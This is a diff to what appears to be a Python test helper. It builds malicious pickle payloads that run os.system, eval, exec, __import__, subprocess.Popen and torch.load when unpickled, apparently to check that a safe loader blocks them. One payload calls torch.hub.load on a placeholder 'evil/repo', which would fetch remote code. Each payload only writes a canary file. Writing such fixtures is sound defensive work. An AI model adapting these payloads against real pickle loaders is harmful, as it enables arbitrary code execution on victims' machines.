@@ -5,6 +5,7 @@ import os
 import pickle
 import random
 import struct
+import subprocess
 import zipfile
 from collections.abc import Callable
 from typing import Any
@@ -104,7 +105,10 @@ def gadgets(canary: str) -> dict[str, bytes]:
     acts = {
         "system": Runs(os.system, touch),
         "eval": Runs(eval, f"open({canary!r}, 'w')"),
+        "exec": Runs(exec, f"open({canary!r}, 'w')"),
         "open": Runs(open, canary, "w"),
+        "import": Runs(__import__, "antigravity"),
+        "popen": Runs(subprocess.Popen, ["touch", canary]),
     }
     found = {f"{name} {n}": pickle.dumps(act, n) for n in range(6) for name, act in acts.items()}
     return found | {
@@ -112,6 +116,8 @@ def gadgets(canary: str) -> dict[str, bytes]:
         "stack global": b"\x80\x04" + text("os") + text("system") + b"\x93(" + call + b"tR.",
         "inst": b"(S'" + touch.encode() + b"'\niposix\nsystem\n.",
         "newobj": named + b"(" + call + b"t\x81.",
+        "partial": b"cfunctools\npartial\n(" + named + call + b"tR)R.",
+        "torch load": b"ctorch\nload\n(" + text(canary) + b"tR.",
         "hub": b"ctorch.hub\nload\n(" + text("evil/repo") + text("model") + b"tR.",
         "add_extension": b"ccopyreg\nadd_extension\n(" + text("os") + text("system") + b"K\x01tR\x82\x01.",
         "build": named + b"(" + text("__setstate__") + named + b"db" + call + b"\x85R.",
